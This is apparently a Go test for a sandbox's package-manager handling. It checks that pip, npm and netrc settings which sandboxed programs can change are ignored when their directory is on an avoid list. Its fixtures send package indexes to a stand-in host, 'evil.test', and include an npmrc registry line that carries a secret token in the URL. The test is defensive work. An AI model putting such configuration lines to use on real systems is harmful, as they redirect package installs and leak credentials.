package packages

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/sandboxmcp/sandboxmcp"
)

// TestNoConfigurationThatProgramsCanChange: a program in a sandbox would otherwise decide from where the
// programs of all namespaces get their packages, and which hosts the server reaches for that.
func TestNoConfigurationThatProgramsCanChange(t *testing.T) {
	top, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	shared, own := top+"/shared", top+"/own"
	put(t, shared, "env/pip.conf", "[global]\nindex-url = http://evil.test/pip\n")
	put(t, shared, "npmrc", "registry = http://evil.test/${TOKEN}\n//registry.npmjs.org/:_authToken = mine\n")
	put(t, shared, "netrc", "machine pypi.org login me password mine\n")
	if err := os.Symlink(shared, own); err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		name, avoid string
		evil        bool
	}{{"nothing to avoid", "", true}, {"another directory to avoid", top + "/sha", true}, {"avoided", shared, false}} {
		for _, in := range []string{shared, own} {
			env := map[string]string{"VIRTUAL_ENV": in + "/env", "NETRC": in + "/netrc", "TOKEN": "a-secret", "npm_config_userconfig": in + "/npmrc", "PIP_FIND_LINKS": in + "/wheels"}
			python, err := readClient(sandboxmcp.Python, env, top, c.avoid)
			if err != nil {
				t.Fatal(err)
			}
			node, err := readClient(sandboxmcp.Node, env, top, c.avoid)
			if err != nil {
				t.Fatal(err)
			}
			for what, is := range map[string]bool{
				"the index of Python": python.indexes[0].url.Host == "evil.test", "the local packages": len(python.links) > 0,
				"the index of Node": node.indexes[0].url.Host == "evil.test", "the logins": len(python.login)+len(node.login) > 0,
			} {
				if is != c.evil {
					t.Errorf("%s, %s by way of %s: got them from the directory: %t, want %t", c.name, what, in, is, c.evil)
				}
			}
			python.bundles = []string{in + "/npmrc"}
			if _, err := python.certificates(); (err == nil) != c.evil {
				t.Errorf("%s, certificates by way of %s: got %v", c.name, in, err)
			}
		}
	}
}
